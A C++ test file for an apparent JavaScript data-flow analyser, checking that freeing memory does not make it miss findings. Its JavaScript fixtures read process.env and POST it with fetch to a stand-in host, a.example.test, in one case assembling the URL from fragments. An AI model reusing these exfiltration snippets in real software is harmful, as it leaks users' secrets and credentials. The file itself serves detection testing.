// What is let go to save memory makes no difference to what is found.
#include "facts/code/flow/flow_for_test.h"

namespace assay::code {
namespace {

std::string numbers(std::size_t count) {
  std::string text;
  for (std::size_t i = 0; i < count; ++i) text += "1,";
  return text;
}

TEST(Memory, Functions_of_files_whose_trees_were_let_go_are_still_called) {
  // Each file has more nodes than are kept of all: reading one lets the others go.
  const std::string table = "var table = [" + numbers(450'000) + "0];\n";
  const Scene scene = analyse(
      "==> index.js\nconst a = require('./a'), b = require('./b'), c = require('./c');\n"
      "c.send(b.encode(a.read()));\n"
      "==> a.js\n" +
      table +
      "exports.read = () => process.env;\n"
      "==> b.js\n" +
      table +
      "exports.encode = (what) => JSON.stringify(what);\n"
      "==> c.js\n" +
      table +
      "exports.send = (what) => fetch('https://a.example.test', {method: 'POST', body: what});\n");
  ASSERT_ACTION(sent, scene, Act::send);
  EXPECT_TRUE(sent->data.has(Source::environment));
}

TEST(Memory, Objects_that_something_leads_to_outlive_those_that_nothing_does) {
  std::string code = "const box = {inner: {list: ['https://', 'a.example', '.test']}};\n";
  // Ten thousand objects for each function that nobody calls.
  for (int i = 0; i < 12; ++i) {
    code += "exports.f" + std::to_string(i) + " = () => { process.env; [";
    for (int k = 0; k < 10'000; ++k) code += "[],";
    code += "] };\n";
  }
  code +=
      "exports.last = () => fetch(box.inner.list.join(''), {method: 'POST', body: process.env});\n";
  const Scene scene = javascript(code);
  ASSERT_ACTION(sent, scene, Act::send);
  EXPECT_EQ(sent->target, "https://a.example.test");
}

TEST(Memory, The_name_of_a_promises_resolve_function_is_empty) {
  const Scene scene = javascript(
      "new Promise((resolve) => { eval(resolve.name); fetch('https://a.example.test'); });");
  EXPECT_NE(scene.find(Act::fetch), nullptr);
}

}  // namespace
}  // namespace assay::code
